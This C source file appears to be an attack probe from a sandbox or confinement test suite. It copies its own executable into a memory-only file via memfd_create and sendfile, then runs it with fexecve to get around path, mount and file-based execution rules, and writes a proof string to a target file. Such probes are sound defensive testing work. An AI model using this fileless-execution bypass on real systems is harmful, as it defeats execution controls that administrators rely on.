// Copies itself into a file that exists only in memory and runs that: no path, no mount option, no rule on a file applies to it.
// The copy then writes the target. Argument: TARGET (plus `second` for the copy)
#include "attack.h"
#include <sys/mman.h>
#include <sys/sendfile.h>

int main(int count, char **words) {
  attempting(count, 1);
  if (count > 2) {
    write_proof(words[1], "written from memory");
    return 0;
  }
  int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  int memory = memfd_create("attack", MFD_CLOEXEC);
  if (self < 0 || memory < 0) refused("memfd");
  struct stat about;
  if (fstat(self, &about) != 0 || sendfile(memory, self, NULL, (size_t)about.st_size) != about.st_size) refused("sendfile");
  char *const next[] = {words[0], words[1], "second", NULL};
  char *const nothing[] = {NULL};
  fexecve(memory, next, nothing);
  refused("fexecve");
}
